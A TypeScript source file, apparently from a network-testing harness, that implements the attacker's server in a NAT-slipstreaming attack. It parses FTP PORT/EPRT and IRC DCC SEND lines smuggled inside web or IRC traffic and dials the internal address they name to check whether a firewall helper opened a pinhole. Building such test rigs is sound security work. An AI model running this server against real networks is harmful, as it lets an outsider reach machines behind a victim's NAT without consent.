/**
 * The attacker's server of a NAT-slipstreaming attempt, run inside the server node: it answers
 * an HTTP request, and when a PORT or EPRT line arrives inside that web connection it dials the
 * address the line names, as the real attack does once the firewall's FTP helper, fooled into
 * parsing web traffic, has opened a pinhole. On a connection that is not HTTP (the IRC carrier)
 * it reads lines at once, and dials what a DCC SEND request names, as a malicious IRC server does
 * once the IRC helper has opened the way. Prints one JSON line per dial.
 * Dependency-free, like the probe agent, so it runs in any node with Node.js.
 */
import { connect, createServer } from 'node:net';

const port = Number(process.argv[2]);

/** `PORT h1,h2,h3,h4,p1,p2` or `EPRT |1|a.b.c.d|port|` / `EPRT |2|v6|port|`. */
function target(line: string): { host: string; port: number } | undefined {
  const port = /^PORT (\d+),(\d+),(\d+),(\d+),(\d+),(\d+)$/.exec(line);
  if (port) {
    const [h1, h2, h3, h4, p1, p2] = port.slice(1).map(Number) as [number, number, number, number, number, number];
    return { host: `${h1}.${h2}.${h3}.${h4}`, port: p1 * 256 + p2 };
  }
  const eprt = /^EPRT (.)[12]\1([^|]+)\1(\d+)\1$/.exec(line);
  if (eprt) return { host: eprt[2]!, port: Number(eprt[3]) };
  // `\x01DCC SEND name ADDRESS PORT SIZE\x01`, the address one 32-bit number.
  const at = line.indexOf('\u0001DCC ');
  const dcc = at < 0 ? null : /^DCC (?:SEND|CHAT) \S+ (\d+) (\d+)/.exec(line.slice(at + 1));
  if (!dcc) return undefined;
  const n = Number(dcc[1]);
  return { host: [24, 16, 8, 0].map((shift) => Math.floor(n / 2 ** shift) % 256).join('.'), port: Number(dcc[2]) };
}

createServer((web) => {
  let buffer = '';
  let answered = false;
  web.setEncoding('utf8');
  web.on('error', () => undefined);
  web.on('data', (chunk: string) => {
    buffer += chunk;
    // Not a web request: an IRC client's lines, read as they come.
    if (!answered && !/^[A-Z]+ \S+ HTTP\//.test(buffer) && buffer.includes('\n')) answered = true;
    if (!answered && buffer.includes('\r\n\r\n')) {
      answered = true;
      buffer = buffer.slice(buffer.indexOf('\r\n\r\n') + 4);
      web.write('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n');
    }
    let nl: number;
    while (answered && (nl = buffer.indexOf('\n')) >= 0) {
      const line = buffer.slice(0, nl).replace(/\r$/, '');
      buffer = buffer.slice(nl + 1);
      const to = target(line);
      if (!to) continue;
      const dial = connect(to);
      const report = (result: string) => process.stdout.write(JSON.stringify({ dialled: to, result }) + '\n');
      dial.once('connect', () => {
        report('connected');
        dial.end('slipstream\n');
      });
      dial.once('error', (e: NodeJS.ErrnoException) => report(e.code ?? e.message));
    }
  });
}).listen(port, () => process.stdout.write(JSON.stringify({ ready: true }) + '\n'));
